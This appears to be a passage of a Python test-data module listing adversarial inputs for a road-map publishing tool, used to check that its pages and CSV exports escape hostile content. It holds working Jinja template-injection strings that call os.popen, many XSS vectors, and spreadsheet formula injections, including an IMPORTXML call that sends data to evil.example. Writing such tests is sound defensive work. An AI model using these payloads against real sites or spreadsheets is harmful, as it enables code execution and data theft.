"""The adversarial corpus: hostile or malformed road maps, as an attacker or a careless
editor would write them, and what the (fixed) tool must do with each.

Every case is a list of edits to a copy of the base data (:func:`make_base`: the small
valid fixture ``tests/fixtures/minimal`` plus one blockage, one public story, a Munro
plan and a named officer, so that every kind of item is present), and its expected
outcome:

* ``accepted``: ``goldenthread check`` exits 0 and both builds succeed; ``shown`` lists
  the text each page must show literally (as text, never evaluated or turned into mark-up),
  ``canaries`` the internal tokens that must never reach the public site (and do reach the
  intranet), ``csv_cells`` cells that must be made safe for a spreadsheet;
* ``rejected``: ``goldenthread check`` exits 1 with a problem at each ``expect``
  (file, line and, where the tool has a code for it, the code), and the build fails with
  "Nothing was published.".

Payloads use place-holders filled in per run: ``@@MARKER@@`` (an absolute path in the test's
temporary folder: a payload that ran would create it) and ``@@RELMARKER@@`` (a relative file
name: created in the build's working folder, the repository, if a payload ran).

The corpus is data, not tests: tests/test_adversarial.py runs it.
"""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass
from pathlib import Path

MARKER = "@@MARKER@@"
RELMARKER = "@@RELMARKER@@"
#: Evaluated as Jinja this becomes the word below, which no case writes literally.
EVAL = '{{ "adv" ~ "evald" }}'
EVALUATED = "advevald"
POPEN = "{{ cycler.__init__.__globals__.os.popen('touch @@MARKER@@').read() }}"
BLOCK = ("{% set x = cycler.__init__.__globals__.os.popen('touch @@MARKER@@').read() %}"
         "{{ x }}")
LIPSUM = "{{ lipsum.__globals__['os'].popen('touch @@RELMARKER@@').read() }}"
INCLUDE = "{% include 'mkdocs.yml' %}"
#: Every hostile mark-up payload carries this word, so a scan can tell it from the theme's.
XSS = "xssadv"
#: Text from outside the data folder: it must appear in no output at all.
SECRET = "OUTSIDE-SECRET-7731"


# --- edits -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Write:
    """Create or replace a file (text is written as UTF-8, bytes as they are)."""

    path: str
    content: str | bytes


@dataclass(frozen=True)
class Sub:
    """Replace the one match of a regular expression in a file (edits of one file compose)."""

    path: str
    pattern: str
    repl: str


@dataclass(frozen=True)
class Link:
    """Make ``path`` a symbolic link to a file (or folder) outside the data folder."""

    path: str
    folder: bool = False


@dataclass(frozen=True)
class Expect:
    """A problem the check must report: file (relative to the data folder), line, codes
    (any of them; empty: any code)."""

    path: str
    line: int
    codes: tuple[str, ...] = ()


@dataclass(frozen=True)
class Shown:
    """Text a page must show literally: audience ('public', 'internal' or 'both'), the
    page's path in the site, the text."""

    audience: str
    page: str
    text: str


@dataclass(frozen=True)
class Case:
    id: str
    kind: str  # goal, priority, service, indicator, action, partner-plan, accountabilities...
    field: str  # title, name, markdown, text, list, id/file, date, number, period, ...
    attack: str  # template, html, csv, yaml, encoding, unicode, path, leak, personal-data...
    outcome: str  # accepted | rejected
    edits: tuple
    why: str
    expect: tuple[Expect, ...] = ()
    public_only: bool = False  # rejected for the public site only; the intranet accepts it
    needs_checks: bool = False  # found by a whole-road-map check (needs a readable roadmap.yml)
    breaks_roadmap: bool = False  # makes roadmap.yml unreadable (whole-road-map checks stop)
    alone: bool = False  # also built on its own (the most dangerous classes)
    shown: tuple[Shown, ...] = ()
    canaries: tuple[str, ...] = ()
    csv_cells: tuple[tuple[str, str], ...] = ()
    no_link_to: tuple[str, ...] = ()  # no <a href> on any page may contain these

    @property
    def paths(self) -> set[str]:
        return {e.path for e in self.edits}

    @property
    def whole_files(self) -> set[str]:
        return {e.path for e in self.edits if not isinstance(e, Sub)}


# --- the base data ---------------------------------------------------------------------

BASE_FILES = {
    "blockages/adv-base-blockage.yml": """\
title: Base blockage for the adversarial tests
description: Nothing is blocked; this entry makes the blockages page list something.
actions: [publish-road-map]
raised: 2026-05-01
raised_by: Head of Early Help
owner: Head of Early Help
level: informal
next_review: 2026-07-01
status: open
visibility: internal
""",
    "stories/adv-base-story.yml": """\
title: Help came before things got worse
account: A family asked for help and a local team came the same week.
difference: The family now knows where to turn.
told_by: A mother
recorded: 2013-03-20
goals: [help-early]
consent: true
visibility: public
""",
    "munro.yml": """\
entries:
  - principle: early-help
    rating: developing
    evidence: Early help teams work in two areas.
    next_step: Bring early help teams to every area.
    owner: Head of Early Help
    assessed: 2012-12-10
    due: "2013-Q4"
    visibility: public
""",
    "officers.yml": """\
officers:
  - name: A. Example
    role: Head of Early Help
    contact: early.help@example.org
""",
}


def make_base(minimal: Path, target: Path) -> Path:
    """Copy the minimal fixture to ``target`` and add the learning items."""
    shutil.copytree(minimal, target)
    for rel, text in BASE_FILES.items():
        (target / rel).parent.mkdir(parents=True, exist_ok=True)
        (target / rel).write_text(text, encoding="utf-8")
    return target


def fill(text: str, marker_dir: Path, case_id: str) -> str:
    return (text.replace(MARKER, str(marker_dir / f"marker-{case_id}"))
            .replace(RELMARKER, f"adv-marker-{case_id}"))


def apply(case: Case, data: Path, marker_dir: Path, outside: Path) -> None:
    """Make ``case``'s edits to the data folder ``data``; ``outside`` is a folder beside it
    (never inside it) for the targets of links."""
    for edit in case.edits:
        path = data / edit.path
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(edit, Write):
            content = edit.content
            if isinstance(content, str):
                path.write_bytes(fill(content, marker_dir, case.id).encode("utf-8"))
            else:
                path.write_bytes(fill(content.decode("latin-1"), marker_dir, case.id)
                                 .encode("latin-1"))
        elif isinstance(edit, Sub):
            text = path.read_text(encoding="utf-8")
            repl = fill(edit.repl, marker_dir, case.id)
            text, count = re.subn(edit.pattern, lambda _m, r=repl: r, text, count=1)
            if count != 1:
                raise AssertionError(f"{case.id}: {edit.pattern!r} not found in {edit.path}")
            path.write_text(text, encoding="utf-8")
        elif isinstance(edit, Link):
            outside.mkdir(exist_ok=True)
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path)
            elif path.exists() or path.is_symlink():
                path.unlink()
            if edit.folder:
                target = outside / f"{case.id}-folder"
                target.mkdir(exist_ok=True)
                (target / "stolen.yml").write_text(
                    f"title: {SECRET}\nsummary: {SECRET}\n", encoding="utf-8")
            else:
                target = outside / f"{case.id}.yml"
                target.write_text(f"title: {SECRET}\nsummary: {SECRET}\nname: {SECRET}\n"
                                  f"visibility: public\n", encoding="utf-8")
            path.symlink_to(target, target_is_directory=edit.folder)


# --- writing items ---------------------------------------------------------------------


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text, ensure_ascii=False)


def line_of(text: str, needle: str) -> int:
    index = text.index(needle)
    return text.count("\n", 0, index) + 1


def goal(title="A goal for the adversarial tests", summary="Families are safer.",
         success=("Families say so.",), serves=("cypp/stay-safe",), visibility="public",
         extra="") -> str:
    return (f"title: {q(title)}\nsummary: {q(summary)}\nsuccess_looks_like:\n"
            + "".join(f"  - {q(s)}\n" for s in success)
            + "serves:\n" + "".join(f"  - {s}\n" for s in serves)
            + extra + f"visibility: {visibility}\n")


def priority(title="A priority for the adversarial tests", summary="We will do it.",
             goals=("safe-at-home",), lead="Head of Early Help", visibility="public") -> str:
    return (f"title: {q(title)}\nsummary: {q(summary)}\ngoals: [{', '.join(goals)}]\n"
            f"lead: {q(lead)}\nvisibility: {visibility}\n")


def service(name="A service for the adversarial tests", description="It helps families.",
            before="Families waited.", after="Families get help.", goal_id="help-early",
            how="It helps early.", owner="Head of Early Help", partners=(),
            visibility="public") -> str:
    return (f"name: {q(name)}\ndescription: {q(description)}\nwhat_changes:\n"
            f"  before: {q(before)}\n  after: {q(after)}\ncontributes_to:\n"
            f"  - goal: {goal_id}\n    how: {q(how)}\nowner: {q(owner)}\n"
            + (f"partners: [{', '.join(q(p) for p in partners)}]\n" if partners else "")
            + f"visibility: {visibility}\n")


def indicator(name="A measure for the adversarial tests", series="  2011-12: 22.0\n",
              unit="percent", extra="", source="Illustrative figures.",
              description="What it tells us.", goals=("safe-at-home",),
              visibility="public") -> str:
    return (f"name: {q(name)}\ndescription: {q(description)}\ndefinition: The definition.\n"
            f"unit: {unit}\npolarity: lower-is-better\nkind: hard\nrba: better-off\n"
            f"goals: [{', '.join(goals)}]\nseries:\n{series}{extra}source: {q(source)}\n"
            f"owner: Head of Performance\nnext_update: 2027-06-30\nvisibility: {visibility}\n")


def action(title="An action for the adversarial tests", owner="Head of Communications",
           due='"2027-Q1"', evidence=None, prio="simple-road-map", services=(),
           visibility="public") -> str:
    return (f"title: {q(title)}\npriority: {prio}\n"
            + (f"services: [{', '.join(services)}]\n" if services else "")
            + f"owner: {q(owner)}\ndue: {due}\nstatus: on-track\n"
            + (f"evidence: {q(evidence)}\n" if evidence else "")
            + f"visibility: {visibility}\n")


def plan(title="A partner plan for the adversarial tests", summary="The plan.",
         priorities=(("one", "Priority one", "Not for this road map."),),
         visibility="public") -> str:
    body = "".join(f"  - id: {pid}\n    title: {q(t)}\n"
                   + (f"    out_of_scope: {q(o)}\n" if o else "")
                   for pid, t, o in priorities)
    return (f"title: {q(title)}\nowner: The partnership\nperiod: 2012 to 2015\n"
            f"summary: {q(summary)}\npriorities:\n{body}visibility: {visibility}\n")


def story(title="Things got better", account="A family got help.", difference="It helped.",
          told_by="A mother", goals=("help-early",), indicators=(), consent="true",
          visibility="public") -> str:
    return (f"title: {q(title)}\naccount: {q(account)}\ndifference: {q(difference)}\n"
            f"told_by: {q(told_by)}\nrecorded: 2013-03-20\ngoals: [{', '.join(goals)}]\n"
            + (f"indicators: [{', '.join(indicators)}]\n" if indicators else "")
            + f"consent: {consent}\nvisibility: {visibility}\n")


def blockage(title="Something is stuck", description="It is stuck.", raised="2026-05-01",
             status="open", extra="", visibility="internal") -> str:
    return (f"title: {q(title)}\ndescription: {q(description)}\nactions: [publish-road-map]\n"
            f"raised: {raised}\nraised_by: Head of Early Help\nowner: Head of Early Help\n"
            f"level: informal\nnext_review: 2026-07-01\nstatus: {status}\n{extra}"
            f"visibility: {visibility}\n")


def term_entry(term, meaning, stands_for=None, visibility="public") -> str:
    return (f"  - term: {q(term)}\n    meaning: {q(meaning)}\n"
            + (f"    stands_for: {q(stands_for)}\n" if stands_for else "")
            + f"    visibility: {visibility}\n")


def acc_entry(role, organisation="Example Council", goal_id="safe-at-home", level="service",
              visibility="public", extra="") -> str:
    return (f"  - role: {q(role)}\n    organisation: {q(organisation)}\n    level: {level}\n"
            f"    goal: {goal_id}\n{extra}    visibility: {visibility}\n")


def achievement(title, detail, visibility="public") -> str:
    return f"  - title: {q(title)}\n    detail: {q(detail)}\n    visibility: {visibility}\n"


def munro_entry(principle, evidence="Evidence.", visibility="public") -> str:
    return (f"  - principle: {principle}\n    rating: developing\n    evidence: {q(evidence)}\n"
            "    next_step: The next step.\n    owner: Head of Early Help\n"
            f"    assessed: 2012-12-10\n    due: \"2013-Q4\"\n    visibility: {visibility}\n")


def officer_entry(name, role="Head of Early Help", contact="early.help@example.org") -> str:
    return f"  - name: {q(name)}\n    role: {q(role)}\n    contact: {q(contact)}\n"


# Inserting an entry at the top of a single file's list: such edits compose.
def add_term(entry: str) -> Sub:
    return Sub("glossary.yml", r"(?m)^terms:\n", "terms:\n" + entry)


def add_acc(entry: str) -> Sub:
    return Sub("accountabilities.yml", r"(?m)^accountabilities:\n", "accountabilities:\n" + entry)


def add_achievement(entry: str) -> Sub:
    return Sub("roadmap.yml", r"(?m)^achievements:\n", "achievements:\n" + entry)


def add_munro(entry: str) -> Sub:
    return Sub("munro.yml", r"(?m)^entries:\n", "entries:\n" + entry)


def add_officer(entry: str) -> Sub:
    return Sub("officers.yml", r"(?m)^officers:\n", "officers:\n" + entry)


def at(path: str, text: str, needle: str, *codes: str) -> Expect:
    return Expect(path, line_of(text, needle), codes)


def token(n: int) -> str:
    return f"advcanary{n:03d}q"


def page(folder: str, item_id: str) -> str:
    return f"{folder}/{item_id}/index.html"


# --- the cases -------------------------------------------------------------------------

CASES: list[Case] = []


def case(**kwargs) -> Case:
    made = Case(**kwargs)
    assert made.id not in {c.id for c in CASES}, made.id
    CASES.append(made)
    return made


def accepted(id, kind, field, attack, edits, why, **kw) -> Case:
    return case(id=id, kind=kind, field=field, attack=attack, outcome="accepted",
                edits=tuple(edits), why=why, **kw)


def rejected(id, kind, field, attack, edits, why, expect, **kw) -> Case:
    return case(id=id, kind=kind, field=field, attack=attack, outcome="rejected",
                edits=tuple(edits), why=why, expect=tuple(expect), **kw)


# ===== accepted: template syntax is shown, never run ===================================

_t = f"Safe at home {POPEN} {EVAL}"
accepted("jinja-goal-title", "goal", "title", "template",
         [Write("goals/adv-jinja-goal.yml", goal(title=_t, summary=f"Summary {LIPSUM}"))],
         "Jinja that would run a shell command, in a goal's title and summary",
         shown=(Shown("both", page("goals", "adv-jinja-goal"), _t),
                Shown("both", page("goals", "adv-jinja-goal"), f"Summary {LIPSUM}")))

_t, _s = f"A simple road map {EVAL}", f"We will {BLOCK} do it {INCLUDE}"
accepted("jinja-priority-block", "priority", "text", "template",
         [Write("priorities/adv-jinja-priority.yml", priority(title=_t, summary=_s))],
         "a Jinja block statement and an include, in a priority",
         shown=(Shown("both", page("priorities", "adv-jinja-priority"), _t),
                Shown("both", page("priorities", "adv-jinja-priority"), _s)))

_t, _s = "Early {# hidden comment #} help {{ unclosed", "Open {% if %} and {%- raw -%} {{"
accepted("jinja-service-comment-unclosed", "service", "name", "template",
         [Write("services/adv-jinja-service.yml", service(name=_t, description=_s))],
         "a Jinja comment, an unclosed expression and broken blocks, in a service",
         shown=(Shown("both", page("services", "adv-jinja-service"), _t),
                Shown("both", page("services", "adv-jinja-service"), _s)))

_t = f"Re-referrals {{{{ config.extra }}}} {EVAL}"
accepted("jinja-indicator-markdown", "indicator", "markdown", "template",
         [Write("indicators/adv-jinja-indicator.yml", indicator(
             name=_t, extra=f"story_behind_the_curve: {q('The story ' + POPEN + ' ' + EVAL)}\n"))],
         "Jinja in an indicator's name and in its Markdown story behind the curve",
         # Markdown renders __init__ as bold 'init', so the Markdown field is checked by
         # its parts that Markdown leaves alone.
         shown=(Shown("both", page("indicators", "adv-jinja-indicator"), _t),
                Shown("both", page("indicators", "adv-jinja-indicator"), "The story"),
                Shown("both", page("indicators", "adv-jinja-indicator"), EVAL)))

_t, _e = f"Publish {BLOCK}", f"Evidence {LIPSUM} {EVAL}"
accepted("jinja-action", "action", "title", "template",
         [Write("actions/adv-jinja-action.yml", action(title=_t, evidence=_e))],
         "Jinja in an action's title and evidence (the actions page)",
         shown=(Shown("both", "actions/index.html", _t),))

_t, _o = f"Plan {EVAL}", f"Out of scope {POPEN}"
accepted("jinja-partner-plan", "partner-plan", "list", "template",
         [Write("partner-plans/adv-jinja-plan.yml",
                plan(title=_t, priorities=(("one", f"Priority {EVAL}", _o),)))],
         "Jinja in a partner plan and in its list of priorities",
         shown=(Shown("both", "partner-plans/index.html", _t),
                Shown("both", "partner-plans/index.html", f"Priority {EVAL}")))

_m = f"A meaning {POPEN} {EVAL}"
accepted("jinja-glossary", "glossary", "text", "template",
         [add_term(term_entry("Adversarial term", _m))],
         "Jinja in a glossary meaning",
         shown=(Shown("both", "glossary/index.html", _m),))

_r = f"Head of {EVAL} Services"
accepted("jinja-accountability", "accountabilities", "text", "template",
         [add_acc(acc_entry(_r, organisation=f"Council {BLOCK}"))],
         "Jinja in an accountability's role and organisation",
         shown=(Shown("both", "accountability/index.html", _r),
                Shown("both", "accountability/index.html", f"Council {BLOCK}")))

_t, _d = f"Achieved {EVAL}", f"Detail {POPEN}"
accepted("jinja-achievement", "roadmap", "list", "template",
         [add_achievement(achievement(_t, _d))],
         "Jinja in an achievement of roadmap.yml (the home page)",
         shown=(Shown("both", "index.html", _t), Shown("both", "index.html", _d)))

_e = f"Evidence {POPEN} {EVAL}"
accepted("jinja-munro", "munro", "text", "template",
         [add_munro(munro_entry("childs-journey", evidence=_e))],
         "Jinja in a Munro self-assessment entry",
         shown=(Shown("both", "munro/index.html", _e),))

_t = f"Things changed {EVAL}"
accepted("jinja-story", "story", "markdown", "template",
         [Write("stories/adv-jinja-story.yml",
                story(title=_t, account=f"The account {POPEN} {EVAL}"))],
         "Jinja in a public story's title and Markdown account",
         shown=(Shown("both", "stories/index.html", _t),
                Shown("both", "stories/index.html", "The account"),
                Shown("both", "stories/index.html", EVAL)))

_t = f"Stuck {token(1)} {POPEN} {EVAL}"
accepted("jinja-blockage-internal", "blockage", "title", "template",
         [Write("blockages/adv-jinja-blockage.yml",
                blockage(title=_t, description=f"It is stuck {BLOCK} {token(1)}"))],
         "Jinja in a blockage (intranet only): shown there as text, never on the public site",
         shown=(Shown("internal", "internal/blockages/index.html", _t),), canaries=(token(1),))

_n = f"B. Example {token(2)} {EVAL}"
accepted("jinja-officer-internal", "officers", "name", "template",
         [add_officer(officer_entry(_n, role="Director of Children's Services",
                                    contact=f"dcs {token(2)}"))],
         "Jinja in a named officer (intranet only, beside the role)",
         shown=(Shown("internal", page("priorities", "simple-road-map"), _n),),
         canaries=(token(2),))

_s = "Other engines: ${7*7} #{7*7} <%= 7*7 %> {0.__class__.__mro__} %(x)s [[7*7]] {{7*'7'}}"
accepted("other-template-syntaxes", "goal", "text", "template",
         [Write("goals/adv-other-templates.yml", goal(summary=_s))],
         "template syntax of other engines (and Python format strings) in a goal summary",
         shown=(Shown("both", page("goals", "adv-other-templates"), _s),))

_t = "{% endraw %}" + POPEN + "{% raw %} breakout"
accepted("jinja-raw-breakout", "goal", "title", "template",
         [Write("goals/adv-raw-breakout.yml", goal(title=_t))],
         "an attempt to close a {% raw %} block the tool might wrap text in",
         shown=(Shown("both", page("goals", "adv-raw-breakout"), _t),))

# ===== accepted: mark-up is escaped or cleaned ========================================

_t = f"<script>alert('{XSS}')</script> Children are safe"
accepted("html-script-title", "goal", "title", "html",
         [Write("goals/adv-script-title.yml",
                goal(title=_t, summary=f"<b onmouseover=alert('{XSS}')>bold</b>"))],
         "a script element in a goal's (plain-text) title and an event handler in its summary",
         shown=(Shown("both", page("goals", "adv-script-title"), _t),
                Shown("both", page("goals", "adv-script-title"),
                      f"<b onmouseover=alert('{XSS}')>bold</b>")))

_md = (f"Before <img src=x onerror=\"alert('{XSS}')\"> after.\n\n"
       f"<iframe src=\"https://evil.example/{XSS}\"></iframe>\n\n"
       f"<svg onload=\"alert('{XSS}')\"><script>alert('{XSS}')</script></svg>\n\n"
       f"<object data=\"https://evil.example/{XSS}.swf\"></object><embed src=\"{XSS}.swf\">\n\n"
       "The line still reads well.")
accepted("html-markdown-img-iframe-svg", "indicator", "markdown", "html",
         [Write("indicators/adv-html-indicator.yml",
                indicator(extra=f"story_behind_the_curve: {q(_md)}\n"))],
         "img onerror, iframe, svg onload, script, object and embed in a Markdown field",
         shown=(Shown("both", page("indicators", "adv-html-indicator"),
                      "The line still reads well."),))

_md = (f"[click](javascript:alert('{XSS}')) and [caps](JaVaScRiPt:alert('{XSS}')) and "
       f"[data](data:text/html;base64,PHNjcmlwdD4=) and [ent](&#106;avascript:alert('{XSS}')) "
       f"and [tab](java\tscript:alert('{XSS}')) and ![img](javascript:alert('{XSS}')) and "
       f"<a href=\"javascript:alert('{XSS}')\">raw</a> and <javascript:alert('{XSS}')> and "
       f"[ref][1] and [vb](vbscript:msgbox('{XSS}')).\n\n[1]: javascript:alert('{XSS}')")
accepted("html-markdown-js-links", "story", "markdown", "html",
         [Write("stories/adv-js-links.yml", story(title="Links that run code", account=_md))],
         "javascript:, data: and vbscript: links, every way Markdown can write one",
         shown=(Shown("both", "stories/index.html", "Links that run code"),))

_md = f"Shown text.<!-- {token(3)} not for the public --> More text."
accepted("html-markdown-comment", "blockage", "markdown", "html",
         [Write("blockages/adv-comment.yml", blockage(title=f"Comment {token(3)}",
                                                      description=_md))],
         "an HTML comment in a Markdown field (a blockage: intranet page, never public)",
         shown=(Shown("internal", "internal/blockages/index.html", "Shown text."),),
         canaries=(token(3),))

_md = (f"Why it matters. <style>body{{display:none}} .{XSS}{{}}</style>"
       f"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{XSS}\">"
       f"<base href=\"https://evil.example/{XSS}/\"><form action=\"https://evil.example/{XSS}\">"
       f"<input name=\"{XSS}\"><button formaction=\"javascript:alert('{XSS}')\">Go</button>"
       "</form><link rel=\"stylesheet\" href=\"https://evil.example/x.css\"> It still reads.")
accepted("html-markdown-style-meta-base-form", "roadmap", "markdown", "html",
         [Sub("roadmap.yml", r"(?m)^why_it_matters: .*$", f"why_it_matters: {q(_md)}")],
         "style, meta refresh, base, form and link elements in roadmap.yml's why_it_matters",
         shown=(Shown("both", "index.html", "It still reads."),))

_m = f"<svg/onload=alert('{XSS}')> means a picture"
accepted("html-svg-glossary", "glossary", "text", "html",
         [add_term(term_entry("Picture", _m))],
         "an SVG with onload in a glossary meaning (plain text)",
         shown=(Shown("both", "glossary/index.html", _m),))

_t = f"</h1></title><script>alert('{XSS}')</script><h1>Early help"
accepted("html-title-breakout", "service", "name", "html",
         [Write("services/adv-title-breakout.yml", service(name=_t))],
         "closing the page's <title> and <h1> from a service name",
         shown=(Shown("both", page("services", "adv-title-breakout"), _t),))

_o = f"Council\" onmouseover=\"alert('{XSS}')\" x=' onfocus='alert(1)"
accepted("html-attribute-breakout", "accountabilities", "text", "html",
         [add_acc(acc_entry("Head of Attribute Tests", organisation=_o))],
         "quotes that would break out of an HTML attribute",
         shown=(Shown("both", "accountability/index.html", _o),))

accepted("html-abbr-expansion", "glossary", "text", "html",
         [add_term(term_entry("ADVX", "A made-up abbreviation.",
                              stands_for=f"\"><script>alert('{XSS}')</script>")),
          Write("goals/adv-abbr.yml", goal(summary="The ADVX team helps."))],
         "an abbreviation's expansion (put in a title attribute) that closes the attribute",
         shown=(Shown("both", page("goals", "adv-abbr"), "The ADVX team helps."),))

_md = (f"See [the log](javascript:alert('{XSS}')) or <iframe src=\"{XSS}\"></iframe> "
       "and the staff note.")
accepted("html-blockage-markdown", "blockage", "markdown", "html",
         [Write("blockages/adv-html-blockage.yml",
                blockage(title=f"Links {token(4)}", description=_md))],
         "script links in a blockage's Markdown description (the intranet is protected too)",
         shown=(Shown("internal", "internal/blockages/index.html", "and the staff note."),),
         canaries=(token(4),))

_s = "Read [our form](https://evil.example/phish) now"
accepted("markdown-link-in-plain-field", "goal", "text", "html",
         [Write("goals/adv-plain-link.yml", goal(summary=_s))],
         "Markdown link syntax in a plain-text field stays text, not a link",
         shown=(Shown("both", page("goals", "adv-plain-link"), _s),),
         no_link_to=("evil.example/phish",))

_o = f"javascript:alert('{XSS}')//@example.org"
accepted("html-officer-contact-link", "officers", "text", "html",
         [add_officer(officer_entry(f"C. Example {token(5)}", role="Head of Communications",
                                    contact=_o))],
         "an officer contact that becomes a mailto link, written to run script",
         shown=(Shown("internal", "actions/index.html", f"C. Example {token(5)}"),),
         canaries=(token(5),))

# ===== accepted: spreadsheet formulas in open data are made inert =====================

_t = f"=HYPERLINK(\"https://evil.example/{XSS}\",\"Click\")"
accepted("csv-hyperlink-goal", "goal", "title", "csv",
         [Write("goals/adv-csv-goal.yml", goal(title=_t))],
         "a HYPERLINK formula as a goal title",
         shown=(Shown("both", page("goals", "adv-csv-goal"), _t),),
         csv_cells=(("data/goals.csv", _t),))

accepted("csv-cmd-service", "service", "name", "csv",
         [Write("services/adv-csv-service.yml",
                service(name="+cmd|' /C calc'!A0", description="@SUM(1+1)*cmd|' /C calc'!A0",
                        owner="-2+3+cmd|' /C calc'!A0"))],
         "DDE command formulas (+, @, -) in a service",
         shown=(Shown("both", page("services", "adv-csv-service"), "+cmd|' /C calc'!A0"),),
         csv_cells=(("data/services.csv", "+cmd|' /C calc'!A0"),
                    ("data/services.csv", "@SUM(1+1)*cmd|' /C calc'!A0"),
                    ("data/services.csv", "-2+3+cmd|' /C calc'!A0")))

accepted("csv-action-owner", "action", "text", "csv",
         [Write("actions/adv-csv-action.yml",
                action(title="=1+1", owner="=cmd|' /C notepad'!'A1'"))],
         "formulas in an action's title and owner",
         csv_cells=(("data/actions.csv", "=1+1"), ("data/actions.csv", "=cmd|' /C notepad'!'A1'")))

accepted("csv-indicator-source", "indicator", "text", "csv",
         [Write("indicators/adv-csv-indicator.yml",
                indicator(source="=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
                          name="@Measure"))],
         "a data-stealing formula as an indicator's source",
         csv_cells=(("data/indicators.csv",
                     "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")"),
                    ("data/indicators.csv", "@Measure")))

accepted("csv-accountability-role", "accountabilities", "text", "csv",
         [add_acc(acc_entry("@SUM(1+1)*cmd|' /C calc'!A0 Lead"))],
         "a formula as an accountable role",
         csv_cells=(("data/accountabilities.csv", "@SUM(1+1)*cmd|' /C calc'!A0 Lead"),))

accepted("csv-plan-title", "partner-plan", "title", "csv",
         [Write("partner-plans/adv-csv-plan.yml", plan(title="=2+5+cmd|' /C calc'!A0"))],
         "a formula as a partner plan's title",
         csv_cells=(("data/partner-plans.csv", "=2+5+cmd|' /C calc'!A0"),))

# ===== accepted: internal items and fields never reach the public site =================

accepted("leak-internal-goal", "goal", "visibility", "leak",
         [Write(f"goals/{token(10)}.yml",
                goal(title=f"Internal goal {token(10)}", summary=f"Secret {token(11)}",
                     visibility="internal"))],
         "an internal goal: its id (file name), title and summary",
         canaries=(token(10), token(11)))

accepted("leak-internal-priority", "priority", "visibility", "leak",
         [Write("priorities/adv-internal-priority.yml",
                priority(title=f"Internal priority {token(12)}", lead=f"Lead {token(13)}",
                         visibility="internal"))],
         "an internal priority", canaries=(token(12), token(13)))

accepted("leak-internal-service", "service", "visibility", "leak",
         [Write("services/adv-internal-service.yml",
                service(name=f"Internal service {token(14)}", partners=(f"Partner {token(15)}",),
                        visibility="internal"))],
         "an internal service and its partners list", canaries=(token(14), token(15)))

accepted("leak-internal-indicator", "indicator", "visibility", "leak",
         [Write("indicators/adv-internal-indicator.yml",
                indicator(name=f"Internal measure {token(16)}",
                          source=f"Source {token(17)}", visibility="internal"))],
         "an internal indicator", canaries=(token(16), token(17)))

accepted("leak-internal-action", "action", "visibility", "leak",
         [Write("actions/adv-internal-action.yml",
                action(title=f"Internal action {token(18)}", evidence=f"Evidence {token(19)}",
                       visibility="internal"))],
         "an internal action", canaries=(token(18), token(19)))

accepted("leak-internal-plan", "partner-plan", "visibility", "leak",
         [Write("partner-plans/adv-internal-plan.yml",
                plan(title=f"Internal plan {token(20)}",
                     priorities=(("one", f"Priority {token(21)}", "Not ours."),),
                     visibility="internal"))],
         "an internal partner plan and its priorities", canaries=(token(20), token(21)))

accepted("leak-internal-achievement", "roadmap", "visibility", "leak",
         [add_achievement(achievement(f"Internal success {token(22)}", f"Detail {token(23)}",
                                      visibility="internal"))],
         "an internal achievement inside the public roadmap.yml",
         canaries=(token(22), token(23)))

accepted("leak-internal-glossary-term", "glossary", "visibility", "leak",
         [add_term(term_entry(f"Internal term {token(24)}", f"Meaning {token(25)}",
                              visibility="internal"))],
         "an internal glossary entry", canaries=(token(24), token(25)))

accepted("leak-internal-accountability", "accountabilities", "visibility", "leak",
         [add_acc(acc_entry(f"Internal role {token(26)}", organisation=f"Org {token(27)}",
                            goal_id="help-early", visibility="internal"))],
         "an internal accountability for a public goal", canaries=(token(26), token(27)))

accepted("leak-internal-munro", "munro", "visibility", "leak",
         [add_munro(munro_entry("learning-culture", evidence=f"Evidence {token(28)}",
                                visibility="internal"))],
         "an internal Munro entry", canaries=(token(28),))

accepted("leak-story-without-consent", "story", "visibility", "leak",
         [Write("stories/adv-internal-story.yml",
                story(title=f"Private story {token(29)}", account=f"Account {token(30)}",
                      consent="false", visibility="internal"))],
         "an internal story (no consent)", canaries=(token(29), token(30)))

accepted("leak-officer", "officers", "name", "leak",
         [add_officer(officer_entry(f"D. Example {token(31)}", role="Head of Performance",
                                    contact=f"d.example.{token(32)}@example.org"))],
         "a named officer and contact (never public, whatever it says)",
         canaries=(token(31), token(32)))

accepted("leak-internal-email", "service", "text", "personal-data",
         [Write("services/adv-internal-email.yml",
                service(name=f"Internal contacts {token(33)}",
                        description=f"Call jane.{token(34)}@example.org or 07700 900123.",
                        visibility="internal"))],
         "contact details in an internal item: allowed (the intranet may show them), never "
         "public", canaries=(token(33), token(34)))

# ===== accepted: careless but harmless ================================================

_contact = "front.door@example.gov.uk"
accepted("public-contact-listed", "roadmap", "text", "personal-data",
         [Sub("roadmap.yml", r"(?m)\Z", f"public_contacts:\n  - {_contact}\n"),
          Write("services/adv-front-door.yml",
                service(description=f"Write to {_contact} any time."))],
         "an organisational address listed in public_contacts may be published",
         shown=(Shown("both", page("services", "adv-front-door"), f"Write to {_contact}"),))

_t = "Сhildren аre sаfe"  # Cyrillic С and а
accepted("unicode-confusable-title", "goal", "title", "unicode",
         [Write("goals/adv-confusable.yml", goal(title=_t))],
         "look-alike (Cyrillic) letters in a title: shown as written",
         shown=(Shown("both", page("goals", "adv-confusable"), _t),))

_t = "خدمة المساعدة المبكرة \u200f2013\u200f"
accepted("unicode-rtl-marks", "service", "name", "unicode",
         [Write("services/adv-rtl.yml", service(name=_t))],
         "Arabic with right-to-left marks (not overrides) is legitimate",
         shown=(Shown("both", page("services", "adv-rtl"), _t),))

_t = "Families 👨\u200d👩\u200d👧 together"
accepted("unicode-emoji-zwj", "priority", "title", "unicode",
         [Write("priorities/adv-emoji.yml", priority(title=_t))],
         "an emoji joined with zero-width joiners (invisible characters inside text are fine)",
         shown=(Shown("both", page("priorities", "adv-emoji"), _t),))

_t = "Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o action"
accepted("unicode-combining-marks", "action", "title", "unicode",
         [Write("actions/adv-zalgo.yml", action(title=_t))],
         "stacked combining marks",
         shown=(Shown("both", "actions/index.html", _t),))

accepted("bom-at-start", "goal", "file", "encoding",
         [Write("goals/adv-bom.yml", "\ufeff" + goal(title="A file saved with a BOM"))],
